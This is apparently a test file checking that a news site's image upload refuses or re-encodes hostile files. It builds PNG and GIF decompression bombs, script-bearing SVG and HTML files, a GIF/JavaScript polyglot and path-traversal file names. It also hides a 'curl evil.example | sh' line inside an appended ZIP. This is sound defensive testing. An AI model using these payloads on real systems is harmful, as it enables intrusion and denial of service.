/**
 * Issue 6 point 3: uploads are sniffed, decoded and encoded again (sharp), metadata stripped,
 * with size and pixel limits. A corpus of hostile files, made here from scratch (no binary files
 * in git), is refused or comes out as a plain picture, never stored under the name it was given.
 */
import fs from 'node:fs'
import path from 'node:path'
import zlib from 'node:zlib'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { pngImage, startApi, type TestApi } from './helper'

let api: TestApi
beforeAll(async () => {
  api = await startApi()
})
afterAll(() => api.close())

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1
  return c >>> 0
})
const crc32 = (data: Buffer) => (data.reduce((c, byte) => CRC_TABLE[(c ^ byte) & 0xff] ^ (c >>> 8), 0xffffffff) ^ 0xffffffff) >>> 0

function pngChunk(type: string, data: Buffer) {
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const crc = Buffer.alloc(4)
  crc.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, crc])
}

/** A PNG that claims `width` x `height` with a few hundred bytes of compressed zeros: a decompression bomb. */
function pngBomb(width: number, height: number) {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([8, 2, 0, 0, 0], 8) // 8-bit RGB
  const rows = zlib.deflateSync(Buffer.alloc(1 + width * 3 * 4)) // the first rows only: the file stays tiny
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', rows),
    pngChunk('IEND', Buffer.alloc(0)),
  ])
}

/** A real GIF whose logical screen and image claim 65535 x 65535 pixels. */
async function gifBomb() {
  const gif = Buffer.from(
    await sharp({ create: { width: 4, height: 4, channels: 3, background: '#808080' } })
      .gif()
      .toBuffer(),
  )
  gif.writeUInt16LE(65535, 6)
  gif.writeUInt16LE(65535, 8)
  const descriptor = gif.indexOf(0x2c, 13)
  gif.writeUInt16LE(65535, descriptor + 5)
  gif.writeUInt16LE(65535, descriptor + 7)
  return gif
}

const zipPayload = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(26), Buffer.from('payload.sh#!/bin/sh curl evil.example | sh')])

async function postNews(file: Buffer, filename: string, mimetype = 'image/png') {
  const form = new FormData()
  form.append('title', `Slika ${filename.length}`)
  form.append('lang', 'sl')
  form.append('date_made', '2025-09-13')
  form.append('body', 'Besedilo')
  form.append('image', new Blob([new Uint8Array(file)], { type: mimetype }), filename)
  return api.request('POST', '/news/admin/news/', { token: api.staffToken, multipart: form })
}

const storedBytes = (url: string) => fs.readFileSync(path.join(api.dataDir, 'media', url.replace(/^\/media\//, '')))

/** Every file name under a folder, at any depth. */
const namesUnder = (folder: string) => (fs.existsSync(folder) ? fs.readdirSync(folder, { recursive: true }).map((name) => path.basename(String(name))) : [])

describe('hostile files are refused', () => {
  it.each([
    ['an SVG with a script, named .png', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'), 'logo.png'],
    ['an HTML page, named .jpg', Buffer.from('<!doctype html><html><body><script>fetch("/api/v1/")</script></body></html>'), 'photo.jpg'],
    ['a text file with a PNG name', Buffer.from('just some text'), 'x.png'],
    ['a PNG bomb claiming 100000 x 100000 pixels', pngBomb(100_000, 100_000), 'bomb.png'],
    ['a PNG of 20000 x 10 pixels (a side beyond the limit)', pngBomb(20_000, 10), 'long.png'],
  ])('%s', async (_name, file, filename) => {
    const res = await postNews(file, filename)
    expect(res.status).toBe(400)
    expect(res.body.image).toEqual(['Upload a valid image. The file you uploaded was either not an image or a corrupted image.'])
  })

  it('a GIF bomb claiming 65535 x 65535 pixels', async () => {
    const res = await postNews(await gifBomb(), 'bomb.gif', 'image/gif')
    expect(res.status).toBe(400)
  })
})

describe('pictures are decoded and encoded again', () => {
  it('a JPEG with a ZIP appended comes out as a plain JPEG, without the archive', async () => {
    const jpeg = await sharp({ create: { width: 40, height: 30, channels: 3, background: '#336699' } })
      .jpeg()
      .toBuffer()
    const res = await postNews(Buffer.concat([jpeg, zipPayload]), 'holiday.jpg', 'image/jpeg')
    expect(res.status, JSON.stringify(res.body)).toBe(201)
    const stored = storedBytes(res.body.image)
    expect(stored.includes(Buffer.from('PK\x03\x04', 'latin1'))).toBe(false)
    expect(stored.includes(Buffer.from('curl evil.example'))).toBe(false)
    expect(await sharp(stored).metadata()).toMatchObject({ format: 'jpeg', width: 40, height: 30 })
  })

  it('a GIF/JavaScript polyglot (GIF89a/*...*/=alert(1)) loses its script', async () => {
    // 10799 pixels wide: the width bytes read '/*', opening a JavaScript comment the payload closes.
    const gif = await sharp({ create: { width: 10799, height: 1, channels: 3, background: '#000000' } })
      .gif()
      .toBuffer()
    expect(gif.subarray(0, 8).toString('latin1')).toBe('GIF89a/*')
    const res = await postNews(Buffer.concat([gif, Buffer.from('*/=alert(document.domain);//')]), 'x.gif', 'image/gif')
    expect(res.status, JSON.stringify(res.body)).toBe(201)
    expect(storedBytes(res.body.image).includes(Buffer.from('alert('))).toBe(false)
  })

  it('metadata (EXIF, GPS) is stripped and the orientation applied', async () => {
    const photo = await sharp({ create: { width: 60, height: 20, channels: 3, background: '#aa5500' } })
      .jpeg()
      .withExif({ IFD0: { Copyright: 'Secret Owner', Artist: 'Hidden Name' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '46/1 9/1 0/1' } })
      .withMetadata({ orientation: 6 })
      .toBuffer()
    expect((await sharp(photo).metadata()).exif).toBeDefined()
    const res = await postNews(photo, 'phone.jpg', 'image/jpeg')
    expect(res.status).toBe(201)
    const stored = storedBytes(res.body.image)
    const meta = await sharp(stored).metadata()
    expect(meta.exif).toBeUndefined()
    expect(meta.orientation).toBeUndefined()
    expect([meta.width, meta.height]).toEqual([20, 60]) // turned upright
    expect(stored.includes(Buffer.from('Secret Owner'))).toBe(false)
  })

  it('a picture with the wrong extension is stored under its real type and a random name', async () => {
    const res = await postNews(await pngImage(10, 10), 'shell.php', 'application/x-php')
    expect(res.status).toBe(201)
    expect(res.body.image).toMatch(/^\/media\/news\/[0-9a-f]{24}\.png$/)
  })
})

describe('file names are never used', () => {
  it.each([['../../x.png'], ['..\\..\\x.png'], ['x.png\u0000.php'], ['/etc/x.png']])('%j', async (filename) => {
    const res = await postNews(await pngImage(10, 10), filename)
    expect(res.status, JSON.stringify(res.body)).toBe(201)
    expect(res.body.image).toMatch(/^\/media\/news\/[0-9a-f]{24}\.png$/)
    expect(namesUnder(api.dataDir)).not.toContain('x.png')
    expect(fs.existsSync(path.resolve(api.dataDir, 'media', 'news', '../../x.png'))).toBe(false)
    expect(fs.existsSync(path.resolve(api.dataDir, '../x.png'))).toBe(false)
  })

  it('nor the name of a resumable upload', async () => {
    const { id } = (await api.request('POST', '/uploads/', { token: api.staffToken, body: { filename: '../../x.png' } })).body
    const png = await pngImage(10, 10)
    const res = await api.app.inject({
      method: 'PUT',
      url: `/api/v1/uploads/${id}/`,
      headers: {
        authorization: `Token ${api.staffToken}`,
        'content-type': 'application/octet-stream',
        'content-range': `bytes 0-${png.length - 1}/${png.length}`,
      },
      payload: png,
    })
    expect(res.json()).toMatchObject({ status: 'complete', kind: 'image', filename: '../../x.png' })
    expect(namesUnder(api.dataDir)).not.toContain('x.png')
  })
})
